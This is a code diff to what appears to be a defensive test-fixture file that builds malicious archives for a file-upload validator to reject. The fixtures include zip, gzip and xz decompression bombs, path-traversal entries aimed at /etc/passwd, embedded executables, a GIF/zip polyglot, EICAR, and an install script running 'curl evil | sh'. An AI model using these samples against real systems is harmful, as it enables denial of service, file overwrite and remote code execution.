@@ -43,7 +43,7 @@ class Case:
 # --- builders ------------------------------------------------------------------
 
 
-def _zip(entries: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
+def zip_of(entries: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
         for name, data in entries.items():
@@ -53,44 +53,44 @@ def _zip(entries: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
 
 def zip_bomb_flat() -> bytes:
     # 50 MiB of zeros, deflated to ~50 KiB: ratio ~1000.
-    return _zip({"zeros.bin": bytes(50 * MIB)})
+    return zip_of({"zeros.bin": bytes(50 * MIB)})
 
 
 def zip_bomb_many_entries() -> bytes:
-    return _zip({f"f{i}.txt": b"" for i in range(200)} | {"big.bin": bytes(20 * MIB)})
+    return zip_of({f"f{i}.txt": b"" for i in range(200)} | {"big.bin": bytes(20 * MIB)})
 
 
 def zip_bomb_nested() -> bytes:
     inner = zip_bomb_flat()
     for level in range(3):
-        inner = _zip({f"level{level}.zip": inner})
+        inner = zip_of({f"level{level}.zip": inner})
     return inner
 
 
 def zip_overlapping_claims() -> bytes:
     """A zip whose central directory claims 4 GiB for a tiny entry."""
-    data = bytearray(_zip({"small.txt": b"hello"}, compression=zipfile.ZIP_STORED))
+    data = bytearray(zip_of({"small.txt": b"hello"}, compression=zipfile.ZIP_STORED))
     central = data.rfind(b"PK\x01\x02")
     struct.pack_into("<I", data, central + 24, 0xFFFFFFF0)  # uncompressed size
     return bytes(data)
 
 
 def zip_path_traversal() -> bytes:
-    return _zip({"../../../../etc/passwd": b"root:x:0:0\n", "/abs/evil.sh": b"#!/bin/sh\n"})
+    return zip_of({"../../../../etc/passwd": b"root:x:0:0\n", "/abs/evil.sh": b"#!/bin/sh\n"})
 
 
 def zip_with_exe() -> bytes:
-    return _zip({"setup.exe": b"MZ" + bytes(200), "readme.txt": b"hi"})
+    return zip_of({"setup.exe": b"MZ" + bytes(200), "readme.txt": b"hi"})
 
 
 def zips_nested_deep() -> bytes:
-    inner = _zip({"data.csv": b"a,b\n1,2\n"})
+    inner = zip_of({"data.csv": b"a,b\n1,2\n"})
     for level in range(5):
-        inner = _zip({f"level{level}.zip": inner})
+        inner = zip_of({f"level{level}.zip": inner})
     return inner
 
 
-def _tar(entries: dict[str, bytes]) -> bytes:
+def tar_of(entries: dict[str, bytes]) -> bytes:
     buffer = io.BytesIO()
     with tarfile.open(fileobj=buffer, mode="w") as archive:
         for name, data in entries.items():
@@ -100,16 +100,20 @@ def _tar(entries: dict[str, bytes]) -> bytes:
     return buffer.getvalue()
 
 
+def tar_gz_of(entries: dict[str, bytes]) -> bytes:
+    return gzip.compress(tar_of(entries))
+
+
 def tar_gz_with_zip_bomb() -> bytes:
-    return gzip.compress(_tar({"readme.txt": b"hello\n", "inner.zip": zip_bomb_flat()}))
+    return tar_gz_of({"readme.txt": b"hello\n", "inner.zip": zip_bomb_flat()})
 
 
 def zip_with_elf() -> bytes:
-    return _zip({"bin/readme.txt": elf_header(), "ok.csv": b"a,b\n1,2\n"})
+    return zip_of({"bin/readme.txt": elf_header(), "ok.csv": b"a,b\n1,2\n"})
 
 
 def tar_gz_with_script() -> bytes:
-    return gzip.compress(_tar({"src/install": b"#!/bin/sh\ncurl evil | sh\n", "src/data.csv": b"a\n1\n"}))
+    return gzip.compress(tar_of({"src/install": b"#!/bin/sh\ncurl evil | sh\n", "src/data.csv": b"a\n1\n"}))
 
 
 def gzip_of_pe() -> bytes:
@@ -123,7 +127,7 @@ def xz_bomb() -> bytes:
 
 def tar_gz_then_zeros() -> bytes:
     # A valid tar whose end marker stops tar readers; gunzip still inflates the zeros.
-    return gzip.compress(_tar({"a.csv": b"a\n1\n"}) + bytes(60 * MIB), compresslevel=9)
+    return gzip.compress(tar_of({"a.csv": b"a\n1\n"}) + bytes(60 * MIB), compresslevel=9)
 
 
 def gzip_of_gzip_bomb() -> bytes:
@@ -226,7 +230,7 @@ def pdf_open_action_only() -> bytes:
 
 def gifar() -> bytes:
     # GIF header followed by a zip (GIFAR-style polyglot).
-    return gif_header_small() + _zip(
+    return gif_header_small() + zip_of(
         {"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "a.class": b"\xca\xfe\xba\xbe"}
     )
 
@@ -342,7 +346,7 @@ def xlsx_truncated() -> bytes:
 
 
 def xlsx_not_a_workbook() -> bytes:
-    return _zip({"hello.txt": b"not a workbook"})
+    return zip_of({"hello.txt": b"not a workbook"})
 
 
 def parquet_bytes() -> bytes:
@@ -383,7 +387,7 @@ CASES: list[Case] = [
     Case(
         "eicar in a zip",
         "eicar.zip",
-        lambda: _zip({"eicar.com.txt": EICAR}),
+        lambda: zip_of({"eicar.com.txt": EICAR}),
         "failed",
         ("infected", "eicar"),
         needs_scanner=True,
@@ -426,7 +430,7 @@ CASES: list[Case] = [
         "failed",
         NAME + ("link", "travers", "unsafe"),
     ),
-    Case("truncated zip", "cut.zip", lambda: _zip({"a.txt": b"a" * 5000})[:100], "failed", BAD_CONTENT),
+    Case("truncated zip", "cut.zip", lambda: zip_of({"a.txt": b"a" * 5000})[:100], "failed", BAD_CONTENT),
     # images
     Case("png decompression bomb", "huge.png", lambda: png(60_000, 60_000), "failed", BOMB),
     Case("gif decompression bomb", "huge.gif", gif_bomb, "failed", BOMB + BAD_CONTENT),
